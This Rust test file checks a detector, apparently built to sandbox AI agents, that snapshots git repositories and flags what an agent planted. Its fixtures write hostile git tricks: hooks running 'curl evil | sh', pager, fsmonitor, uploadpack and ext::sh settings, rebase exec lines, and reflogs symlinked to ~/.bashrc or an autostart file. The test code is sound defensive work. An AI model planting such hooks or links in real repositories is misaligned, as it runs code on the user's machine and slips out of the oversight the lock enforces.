//! The snapshot and its findings, on repositories made for each test.

use super::*;

fn executable(path: &Path, text: &str) {
    std::fs::write(path, text).expect("write");
    std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
}

/// What a repository's settings lead git to (an included file, a hooks path in the work
/// tree) is watched; a hooks folder made a link is named even when it leads nowhere yet.
#[test]
fn what_settings_lead_to_and_linked_hooks_folders_are_watched() {
    let dir = std::env::temp_dir().join(format!("paddock-leads-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let git = dir.join("app/.git");
    std::fs::create_dir_all(git.join("hooks")).expect("hooks");
    std::fs::create_dir_all(dir.join("app/.husky")).expect("husky");
    std::fs::create_dir_all(dir.join("app/tools")).expect("tools");
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").expect("HEAD");
    let config = "[core]\n\thooksPath = .husky\n[include]\n\tpath = ../tools/gitconfig\n";
    std::fs::write(git.join("config"), config).expect("config");
    executable(&dir.join("app/.husky/pre-commit"), "#!/bin/sh\nnpm test\n");
    std::fs::write(dir.join("app/tools/gitconfig"), "[user]\n\tname = me\n").expect("include");
    let before = snapshot(std::slice::from_ref(&dir));
    // The agent changes what the protected config leads to, and links the hooks folder.
    executable(&dir.join("app/.husky/pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
    let included = "[branch \"]\"] [core] pager = ./evil \\\n --more\n";
    std::fs::write(dir.join("app/tools/gitconfig"), included).expect("include");
    std::fs::remove_dir(git.join("hooks")).expect("hooks away");
    std::os::unix::fs::symlink("../tools/later", git.join("hooks")).expect("hooks link");
    // A comment ending in a backslash continues nothing (git reads `[pager]` as a header);
    // a paused rebase holds a command for `--continue`.
    let comment = "[remote \"origin\"]\n\turl = x ; \\\n[pager]\n\tfetch = ./evil\n\
        [diff]\n\texternal = \"sh -c \\\"evil q\\\"\"\n";
    std::fs::write(git.join("config.worktree"), comment).expect("config.worktree");
    std::fs::create_dir_all(git.join("rebase-merge")).expect("rebase");
    let todo = "pick 1234 one\nbreak\nexec ./evil --now\n";
    std::fs::write(git.join("rebase-merge/git-rebase-todo"), todo).expect("todo");
    let found = planted(&before, &snapshot_again(std::slice::from_ref(&dir), &before));
    let app = dir.join("app").display().to_string();
    assert_eq!(
        found,
        [
            format!("{app}/.git/../tools/gitconfig sets core.pager = ./evil  --more"),
            format!("{app}/.git/config.worktree sets pager.fetch = ./evil"),
            format!("{app}/.git/config.worktree sets diff.external = sh -c \"evil q\""),
            format!("{app}/.git/hooks is a link to ../tools/later: git runs the hooks it finds there"),
            format!("{app}/.git/rebase-merge/git-rebase-todo holds a paused rebase that runs ./evil --now on `git rebase --continue`"),
            format!("{app}/.husky/pre-commit runs curl evil | sh"),
        ]
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn what_a_lock_left_git_to_run_is_named() {
    let dir = std::env::temp_dir().join(format!("paddock-planted-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("app/.git/hooks")).expect("app");
    std::fs::create_dir_all(dir.join("app/.git/objects")).expect("objects");
    std::fs::write(dir.join("app/.git/HEAD"), "ref: refs/heads/main\n").expect("HEAD");
    std::fs::write(dir.join("app/.git/config"), "[core]\n\tbare = false\n").expect("config");
    let before = snapshot(std::slice::from_ref(&dir));
    assert!(planted(&before, &before).is_empty());
    // The protected repository redirected; new ones deep and in skipped-looking folders.
    std::fs::write(dir.join("app/.git/commondir"), "../evil\n").expect("commondir");
    let deep = dir.join("node_modules/a/b/c/d/e/f/g/h/i/j/.git");
    std::fs::create_dir_all(deep.join("hooks")).expect("deep");
    executable(&deep.join("hooks/post-checkout"), "#!/bin/sh\n# tidy\ncurl evil | sh\n");
    executable(&deep.join("hooks/pre-push.sample"), "#!/bin/sh\nexit 0\n");
    std::os::unix::fs::symlink("/bin/true", deep.join("hooks/pre-commit")).expect("link");
    let config = "[core]\n\tbare = false\n\tfsmonitor = ./x.sh\n[user]\n\temail = a@b\n\
                  [pager] log = ./evil\n[remote \"o\"]\n\turl = ../x\n\tuploadpack = ./evil\n\
                  [remote \"e\"]\n\turl = ext::sh -c evil\n\
                  [alias]\n\tx = !printf '\\033[2K'\x1b[1A\n";
    std::fs::write(deep.join("config"), config).expect("config");
    // A folder far deeper than any repository does not hide the ones above it.
    let mut far = dir.join("zz");
    for _ in 0..40 {
        far.push("d");
    }
    std::fs::create_dir_all(&far).expect("deep folders");
    // A bare repository whose HEAD is a link, with a setting after two headers on one
    // line and a byte-order mark.
    let bare = dir.join("src");
    std::fs::create_dir_all(bare.join("objects")).expect("objects");
    std::os::unix::fs::symlink("refs/heads/main", bare.join("HEAD")).expect("HEAD link");
    std::fs::write(bare.join("config"), "\u{feff}[user] [core] fsmonitor = ./fsm\n")
        .expect("config");
    let found = planted(&before, &snapshot_again(std::slice::from_ref(&dir), &before));
    let d = deep.display();
    assert_eq!(
        found,
        [
            format!("{}/app/.git/commondir sends git to ../evil", dir.display()),
            format!("{d}/config sets core.fsmonitor = ./x.sh"),
            format!("{d}/config sets pager.log = ./evil"),
            format!("{d}/config sets remote.o.uploadpack = ./evil"),
            format!("{d}/config sets remote.e.url = ext::sh -c evil"),
            format!("{d}/config sets alias.x = !printf '\\033[2K'\\u{{1b}}[1A"),
            format!("{d}/hooks/post-checkout runs curl evil | sh"),
            format!("{d}/hooks/pre-commit is a link to /bin/true"),
            format!("{}/src/config sets core.fsmonitor = ./fsm", dir.display()),
        ]
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// A lock on a worktree may write its git folder and the common folder's reflogs: a paused
/// rebase in the former and a reflog linked out of the latter are named (git would run the one
/// and append to ~/.bashrc through the other); a HEAD linked inside its repository is not.
#[test]
fn links_git_writes_through_and_a_worktrees_git_folders_are_watched() {
    let dir = std::env::temp_dir().join(format!("paddock-reflogs-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let common = dir.join("repo/.git");
    let own = common.join("worktrees/wt");
    for folder in
        [common.join("objects"), common.join("logs/refs/heads"), own.clone(), dir.join("wt")]
    {
        std::fs::create_dir_all(folder).expect("folders");
    }
    std::fs::write(common.join("HEAD"), "ref: refs/heads/main\n").expect("HEAD");
    std::fs::write(common.join("logs/HEAD"), "").expect("reflog");
    std::fs::write(own.join("HEAD"), "ref: refs/heads/wt\n").expect("HEAD");
    std::fs::write(own.join("commondir"), "../..\n").expect("commondir");
    std::fs::write(dir.join("wt/.git"), format!("gitdir: {}\n", own.display())).expect(".git");
    let outside = dir.join("home/.bashrc");
    std::fs::create_dir_all(outside.parent().expect("home")).expect("home");
    std::fs::write(&outside, "# rc\n").expect("rc");
    let watched = [dir.join("wt")];
    let before = snapshot(&watched);
    std::fs::remove_file(common.join("logs/HEAD")).expect("reflog away");
    std::os::unix::fs::symlink(&outside, common.join("logs/HEAD")).expect("reflog link");
    let later = dir.join("home/.config/autostart/evil.desktop");
    std::os::unix::fs::symlink(&later, common.join("logs/refs/heads/main")).expect("dangling");
    std::os::unix::fs::symlink("refs/heads/wt", own.join("ORIG_HEAD")).expect("inside");
    // A paused rebase's `done` linked out (git appends the to-do lines there on --continue),
    // a loose-object folder linked out, and a remote defined the old way.
    std::fs::create_dir_all(own.join("rebase-merge")).expect("rebase");
    std::os::unix::fs::symlink(&outside, own.join("rebase-merge/done")).expect("done link");
    std::os::unix::fs::symlink(dir.join("home"), common.join("objects/cd")).expect("objects");
    std::fs::create_dir_all(common.join("remotes")).expect("remotes");
    std::fs::write(common.join("remotes/upstream"), "URL: https://evil.example/x\n").expect("r");
    let todo = "pick 1 one\nexec\t./evil\n\tx\t./also\nexecute nothing\n";
    std::fs::write(own.join("rebase-merge/git-rebase-todo"), todo).expect("todo");
    let found = planted(&before, &snapshot_again(&watched, &before));
    let through = ": git writes through it (a reflog line, with commit subjects the agent chose, appended there)";
    let common = common.display();
    assert_eq!(
        found,
        [
            format!("{common}/logs/HEAD is a link to {}{through}", outside.display()),
            format!("{common}/logs/refs/heads/main is a link to {}{through}", later.display()),
            format!("{common}/objects/cd is a link to {}: git writes through it", dir.join("home").display()),
            format!("{common}/remotes/upstream sends git to URL: https://evil.example/x"),
            format!("{}/rebase-merge/done is a link to {}: git writes through it", own.display(), outside.display()),
            format!("{}/rebase-merge/git-rebase-todo holds a paused rebase that runs ./evil on `git rebase --continue`", own.display()),
            format!("{}/rebase-merge/git-rebase-todo holds a paused rebase that runs ./also on `git rebase --continue`", own.display()),
        ]
    );
    let _ = std::fs::remove_dir_all(&dir);
}
